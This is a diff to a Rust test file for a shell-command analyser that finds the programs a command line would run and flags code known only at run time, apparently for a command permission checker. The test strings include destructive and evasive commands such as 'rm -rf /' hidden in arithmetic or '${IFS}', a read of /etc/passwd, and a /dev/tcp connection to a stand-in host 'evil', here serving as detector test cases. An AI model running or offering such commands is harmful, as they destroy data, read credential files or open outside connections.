@@ -207,13 +207,17 @@ fn keywords_are_not_programs_but_what_they_hold_is() {
 fn groups_subshells_functions_and_case_are_looked_into() {
     assert_eq!(programs("{ rm x; }"), ["rm"]);
     assert_eq!(programs("( cd /tmp && rm x )"), ["cd", "rm"]);
-    assert_eq!(programs("((ls))"), ["ls"]);
+    assert_eq!(programs("( (ls) )"), ["ls"]);
+    assert_eq!(programs("time (rm x) && time { ls; }"), ["rm", "ls"]);
     assert_eq!(programs("f() { rm x; }; f"), ["rm", "f"]);
     assert_eq!(programs("function f { rm x; }"), ["rm"]);
     assert_eq!(programs("function f() ( rm x )"), ["rm"]);
     assert_eq!(programs("case $x in a) rm x;; (b|c) ls;& *) pwd;;& esac"), ["rm", "ls", "pwd"]);
     assert_eq!(programs("case $(rm x) in\n a) ls\n esac"), ["rm", "ls"]);
-    assert_eq!(programs("[[ -n $(rm x) && -f y || ( a < b ) ]] && ls"), ["rm", "ls"]);
+    assert_eq!(
+        commands("[[ -n $(rm x) && -f y || ( a < b ) ]] && ls"),
+        ["rm x", "[[ -f -n y a b <run-time arguments>", "ls"]
+    );
     assert_eq!(programs("echo }"), ["echo"]);
 }
 
@@ -223,6 +227,36 @@ fn assignments_are_not_programs() {
     assert!(programs("X=1").is_empty());
     assert_eq!(programs("\"X\"=1"), ["x=1"]);
     assert_eq!(programs("ls X=1"), ["ls"]);
+}
+
+#[test]
+fn arithmetic_on_variables_runs_code_only_known_at_run_time() {
+    // `x='a[$(rm -rf /)]'; echo $((x))` runs `rm`: bash evaluates the value of `x`.
+    for line in [
+        "x='a[$(rm -rf /)]'; echo $((x))",
+        "echo $(( $n + 1 ))",
+        "echo $[x]",
+        "((x))",
+        "for ((i = 0; i < n; i++)); do echo $i; done",
+        "let i++",
+        "[[ $n -eq 1 ]]",
+        "[[ n -gt 1 ]]",
+        "echo ${a[$i]}",
+        "echo ${s:$off:2}",
+    ] {
+        let analysed = analyse(line).unwrap();
+        assert!(analysed.iter().any(|c| c.dynamic), "{line}: {analysed:?}");
+    }
+    for line in [
+        "echo $((1 + 2)) $[3] ${a[@]} ${a[0]} ${s:0:2} ${x:-y} ${x: -1}",
+        "((1 + 2)) && ls",
+        "let 1+2",
+        "[[ $# -eq 0 ]]",
+        "[[ $x == y && -f $z ]]",
+    ] {
+        let analysed = analyse(line).unwrap();
+        assert!(analysed.iter().all(|c| !c.dynamic), "{line}: {analysed:?}");
+    }
 }
 
 // Programs.
@@ -544,18 +578,5 @@ proptest! {
     fn analysis_is_total_on_shell_like_text(line in "[a-z $'\"`\\\\(){};|&<>#*?\\[\\]=\n-]{0,80}") {
         let _ = analyse(&line);
         rules(&["rm"], &["git push"], &["ls"]).check(&line, &mut Vec::new());
-    }
-}
-
-#[test]
-fn explore() {
-    for line in [
-        "rm${IFS}-rf${IFS}/", "\"$(printf rm)\" -rf /", "nice --adjustment=5 rm x", "sudo --user=root rm x",
-        "sudo -iu root rm -rf /", "find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "bash -c \"shopt -s expand_aliases; alias x=rm; x -rf /\"",
-        "builtin eval rm x", "coproc rm x", "$(</etc/passwd)", "chmod 777 -R /", "sh <<EOF\nrm -rf /\nEOF",
-        "xargs --max-args=1 rm", "sudo -u#0 rm", "exec 3<>/dev/tcp/evil/80", "echo $(( $x + 1 ))", "((i++))",
-        "for ((i=0; i<3; i++)); do echo $i; done", "select x in a b; do rm $x; done", "time (rm x)",
-    ] {
-        println!("{line:?}\n    {:?}", analyse(line).map(|v| v.iter().map(|c| format!("{c}{}", if c.dynamic {" [dyn]"} else {""})).collect::<Vec<_>>()));
     }
 }
